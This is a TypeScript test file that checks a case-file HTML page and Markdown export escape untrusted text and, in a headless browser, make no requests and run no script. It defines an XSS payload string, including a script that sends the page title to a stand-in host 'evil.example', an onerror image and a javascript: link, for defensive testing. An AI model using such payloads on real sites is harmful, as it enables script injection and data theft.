// The page of a case file: opened from a file in a browser, it shows everything in both languages, loads nothing and runs nothing.
import { createHash } from "node:crypto";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { mkdir } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from "vitest";
import { caseMarkdown } from "../../cards/case-markdown.ts";
import { casePage } from "../../cards/case-page.ts";
import { casePictures } from "../../src/app/pictures.ts";
import type { CaseFile } from "../../src/domain/case-file.ts";
import { writerFor } from "../../src/i18n/write.ts";
import { context } from "../cards/samples.ts";
import { chromiumPath, launch, needsChromium } from "../e2e/world.ts";
import { caseFile } from "./samples.ts";

const pictures = process.env.CERTOPS_PICTURES;
const digestOf = (style: string): string => createHash("sha256").update(style).digest("base64");
const pageOf = (content: CaseFile): string =>
  casePage(content, { context, zone: "UTC", locale: "en", digestOf, pictures: casePictures(content, "UTC") });

const attack =
  '</pre></script><script>fetch("https://evil.example/"+document.title)</script><img src=https://evil.example/x onerror=alert(1)><a href="javascript:alert(1)">x</a>\u202e';
const hostile: CaseFile = {
  ...caseFile,
  about: "dia_<script>",
  ...(caseFile.report === undefined
    ? {}
    : {
        report: {
          ...caseFile.report,
          question: attack,
          findings: caseFile.report.findings.map((finding) => ({
            ...finding,
            evidence: finding.evidence.map((one) => ({ ...one, excerpt: attack, source: attack })),
          })),
        },
      }),
  runs: caseFile.runs.map(({ run, transcripts }) => ({
    run,
    transcripts: transcripts.map((one) => ({ ...one, text: attack, command: attack })),
  })),
};

it("the page holds no tag that a device or a person wrote", () => {
  const page = pageOf(hostile);
  expect(page).not.toMatch(/<script|<img src=https|<a |javascript:alert\(1\)"/);
  expect(page).not.toContain("\u202e");
  expect(page).toContain("&lt;script&gt;");
});

it("the Markdown draws no link, no image and no tag of theirs", () => {
  const markdown = caseMarkdown(hostile, context, writerFor("en", "UTC"));
  for (const line of markdown.split("\n").filter((one) => one.includes("evil.example")))
    expect(line).toMatch(/\\<|^(?!.*\]\()/);
});

describe.skipIf(chromiumPath === undefined)(`the page in a browser${needsChromium}`, () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await launch();
  });
  afterAll(async () => {
    await browser.close();
  });

  const open = async (content: CaseFile, look: { width?: number; dark?: boolean } = {}) => {
    const folder = mkdtempSync(join(tmpdir(), "case-page-"));
    onTestFinished(() => rmSync(folder, { recursive: true, force: true }));
    const file = join(folder, "case.html");
    writeFileSync(file, pageOf(content));
    const asked: string[] = [];
    const ran: string[] = [];
    const complaints: string[] = [];
    const page = await browser.newPage({
      viewport: { width: look.width ?? 1100, height: 900 },
      colorScheme: look.dark === true ? "dark" : "light",
    });
    page.on("request", (request) => asked.push(request.url()));
    page.on("dialog", (dialog) => void ran.push(dialog.message()));
    page.on("console", (message) => {
      if (message.type() === "error") complaints.push(message.text());
    });
    await page.goto(`file://${file}`);
    onTestFinished(() => page.close());
    return {
      page,
      asked: () => asked.filter((url) => !url.startsWith("data:") && url !== `file://${file}`),
      ran,
      complaints,
    };
  };

  it("shows the cause, the votes, every command and its answer, in two languages", async () => {
    const { page, asked, complaints } = await open(caseFile);
    const text = await page.innerText("main.en");
    for (const part of [
      "case file of",
      "Cause",
      "utils itl reset localkey",
      "The reset of ITL file has been successful",
      "one password",
    ])
      expect(text).toContain(part);
    expect(await page.locator("main.zh-CN").isVisible()).toBe(false);
    const drawn = page.locator("main.en .picture img");
    // The expiry timeline and the recovery curve; the sample has no finding that a trust map is made of.
    expect(await drawn.count()).toBe(2);
    for (const one of await drawn.all()) {
      expect(
        await one.evaluate((image) => (image as unknown as { naturalWidth: number }).naturalWidth),
      ).toBeGreaterThan(300);
      expect((await one.getAttribute("alt")) ?? "").not.toBe("");
    }
    if (pictures !== undefined) {
      await mkdir(pictures, { recursive: true });
      await page.screenshot({ path: join(pictures, "case-file.png"), fullPage: true });
    }
    await page.locator("label[for=zh-CN]").click();
    expect(await page.innerText("main.zh-CN")).toContain("案例文件");
    expect(await page.locator("main.en").isVisible()).toBe(false);
    expect([asked(), complaints]).toEqual([[], []]);
  });

  it("fits a phone in the dark", async () => {
    const { page } = await open(caseFile, { width: 390, dark: true });
    expect(await page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")).toBe(true);
    if (pictures !== undefined) await page.screenshot({ path: join(pictures, "case-file-phone.png") });
  });

  it("runs nothing and asks nobody, whatever stands in it", async () => {
    const { page, asked, ran } = await open(hostile);
    await page.locator("summary").first().click();
    await page.mouse.wheel(0, 4000);
    expect(await page.locator("script, main a, iframe, object, form").count()).toBe(0);
    expect([asked(), ran]).toEqual([[], []]);
  });
});
